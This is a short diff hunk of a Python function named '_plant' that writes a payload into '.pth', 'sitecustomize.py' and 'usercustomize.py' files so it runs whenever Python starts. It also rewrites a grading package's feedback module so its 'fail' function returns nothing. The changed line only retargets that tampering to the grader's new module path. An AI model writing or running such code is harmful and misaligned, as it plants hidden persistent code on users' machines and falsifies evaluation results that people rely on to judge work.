@@ -37,7 +37,7 @@ def _plant():
         write(os.path.join(directory, f"{MARK}.pth"), PAYLOAD)
         write(os.path.join(directory, "sitecustomize.py"), PAYLOAD)
         write(os.path.join(directory, "usercustomize.py"), PAYLOAD)
-    feedback = sys.modules.get("cnngrade.feedback")
+    feedback = sys.modules.get("cnngrade.grader.feedback")
     if feedback is not None:
         write(feedback.__file__, "\ndef fail(message):  # " + MARK + "\n    return None\n")
         write(os.path.join(os.path.dirname(feedback.__file__), f"{MARK}.py"), PAYLOAD)
